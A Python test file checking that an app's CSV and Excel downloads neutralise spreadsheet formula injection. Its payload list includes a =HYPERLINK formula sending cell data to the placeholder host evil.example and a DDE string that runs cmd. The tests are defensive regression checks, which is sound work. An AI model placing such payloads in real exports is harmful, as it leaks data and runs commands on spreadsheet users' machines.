"""Every CSV and Excel download keeps formula-like text as text (issue 23: the at-risk Excel file
wrote =HYPERLINK(...) as a live formula; the at-risk and comments CSVs wrote formulas unescaped)."""
from __future__ import annotations

import ast
import datetime as dt
import io
from pathlib import Path

import openpyxl
import pandas as pd

from cxdata import exports
from cxdata.access.roles import LOCAL_ADMIN
from cxdata.churn import alerts

ROOT = Path(__file__).resolve().parents[1]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
# Each way a spreadsheet starts a formula, and (last) plain text that must stay as it is.
PAYLOADS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
PLAIN = ["Ana López", "call back 2026-03-01", "a = b", "50% off"]


def _alerts(names: list[str]) -> pd.DataFrame:
    """An at-risk list as churn.at_risk returns it, with `names` as customer names, owners and notes."""
    n = len(names)
    return pd.DataFrame({
        "customer_id": [f"C{i}" for i in range(n)], "name": names, "segment": names, "region": ["EU"] * n,
        "plan": ["Pro"] * n, "band": ["high"] * n, "score": [80.0] * n, "value_at_risk": [1000.0] * n,
        "reasons": [[v] for v in names], "rules": [["score"]] * n, "annual_value": [1250.0] * n,
        "next_renewal_on": [dt.date(2026, 6, 1)] * n, "expected_purchase_on": [None] * n,
        "account_owner": names, "owner": names, "status": ["new"] * n, "note": names})


def _csv_cells(data: bytes) -> list[str]:
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    return [v for column in back.columns for v in back[column]]


def _xlsx_cells(data: bytes) -> list[openpyxl.cell.Cell]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def test_csv_cells_that_would_start_a_formula_get_a_leading_quote():
    table = pd.DataFrame({"comment": PAYLOADS + PLAIN, "n": range(len(PAYLOADS) + len(PLAIN))})
    cells = pd.read_csv(io.BytesIO(exports.csv_bytes(table)), encoding="utf-8-sig", keep_default_na=False)
    # hand-checked: each payload behind one ', plain text and numbers untouched
    assert cells["comment"].tolist() == ["'" + p for p in PAYLOADS] + PLAIN
    assert cells["n"].tolist() == list(range(len(PAYLOADS) + len(PLAIN)))


def test_xlsx_cells_are_text_never_formulas():
    table = pd.DataFrame({"comment": PAYLOADS + PLAIN, "n": range(len(PAYLOADS) + len(PLAIN))})
    cells = _xlsx_cells(exports.xlsx_bytes(table, "Comments"))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if c.column == 1][1:]
    assert texts[0] == HYPERLINK and texts[-1] == "50% off"      # the text as it is, as text
    assert [c.value for c in cells if c.column == 2][1:] == list(range(len(PAYLOADS) + len(PLAIN)))


def test_at_risk_list_downloads_are_inert():
    listed = _alerts(PAYLOADS)
    csv = _csv_cells(alerts.to_csv(listed, LOCAL_ADMIN))
    assert HYPERLINK not in csv and "'" + HYPERLINK in csv
    assert not [v for v in csv if v.startswith(exports.FORMULA_START)]
    cells = _xlsx_cells(alerts.to_excel(listed, LOCAL_ADMIN))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert HYPERLINK in [c.value for c in cells]      # shown as the text it is


def test_every_download_is_written_by_cxdata_exports():
    """No page or module writes a CSV or Excel file of its own (the twins that forgot the rule)."""
    offenders = []
    for path in [ROOT / "app.py", *ROOT.glob("pages/*.py"), *ROOT.glob("cxdata/**/*.py")]:
        if path.name == "exports.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Attribute) and node.attr in ("to_csv", "to_excel", "ExcelWriter"):
                if not (isinstance(node.value, ast.Name) and node.value.id == "alerts"):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert offenders == []
